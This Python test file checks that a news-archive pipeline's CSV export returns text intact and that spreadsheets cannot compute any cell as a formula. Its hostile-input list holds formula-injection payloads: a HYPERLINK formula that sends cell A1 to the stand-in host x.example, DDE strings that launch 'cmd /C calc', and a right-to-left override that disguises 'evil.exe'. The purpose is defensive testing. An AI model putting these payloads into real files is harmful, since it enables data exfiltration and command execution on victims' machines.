"""CSV of hostile text: it comes back as it was, and no spreadsheet computes it."""

import csv
from datetime import UTC, datetime
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.records import Article, Image
from pipelines.export import sheet
from tests.pipelines.records_read import parted, plain

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",  # noqa: RUF001
    'She said "no", twice;\nthen, "yes"\r\nand left',
    "\u202eevil.exe\u202c and \u05e9\u05dc\u05d5\u05dd",
    "🐑🇳🇿 Māori haka 👩‍👩‍👧",
    "'Never again', says minister",
    "a | b \\| c \\",
)


def article(**fields: object) -> Article:
    made = {
        "article_id": "A" * 26,
        "revision": "f" * 64,
        "publisher": "nzherald",
        "url": "https://n.example/a",
        "headline": "Ferry",
        "access": "free",
        "first_seen_at": NOON,
        "captured_at": NOON,
        "reader": "test",
        "reader_version": "1",
    }
    return Article(**{**made, **fields})


def table(*articles: Article) -> list[dict[str, str]]:
    text = b"".join(sheet.encode(articles)).decode()
    return list(csv.DictReader(StringIO(text, newline=""), strict=True))


def is_computed(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula."""
    return cell.lstrip("\t\r\n ")[:1] in set("=+-@＝＋－＠")  # noqa: RUF001


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_read_back_and_not_computed(text: str) -> None:
    images = (Image(caption=text), Image(caption=text, credit=text))
    (row,) = table(article(headline=text, text=text, authors=(text, "B | C"), images=images))
    assert (plain(row["headline"]), plain(row["text"])) == (text, text)
    assert parted(plain(row["authors"])) == [text, "B | C"]
    assert parted(plain(row["image_captions"])) == [text, text]
    assert parted(plain(row["image_credits"])) == ["", text]
    assert not any(map(is_computed, row.values()))


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_any_text_is_read_back_and_not_computed(text: str) -> None:
    (row,) = table(article(headline=text))
    assert plain(row["headline"]) == text
    assert not is_computed(row["headline"].lstrip(" ")) or text[:1] == " "


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1))
)
def test_any_list_is_read_back(values: list[str]) -> None:
    (row,) = table(article(keywords=tuple(values)))
    assert parted(plain(row["keywords"])) == values


def test_nul_is_shown_as_a_character_that_stands_for_none() -> None:
    (row,) = table(article(headline="a\0b"))
    assert row["headline"] == "a\N{REPLACEMENT CHARACTER}b"


def test_an_ordinary_quotation_is_left_alone() -> None:
    (row,) = table(article(headline="'Never again', says minister"))
    assert row["headline"] == "'Never again', says minister"


def test_rows_of_one_file_have_the_columns_of_every_other() -> None:
    (bare,) = table(article())
    assert tuple(bare) == sheet.COLUMNS
    assert (bare["agency"], bare["authors"], bare["date_published"]) == ("", "", "")
    assert bare["captured_at"] == "2026-03-01T12:00:00Z"
    assert b"".join(sheet.encode([])).count(b"\r\n") == 1
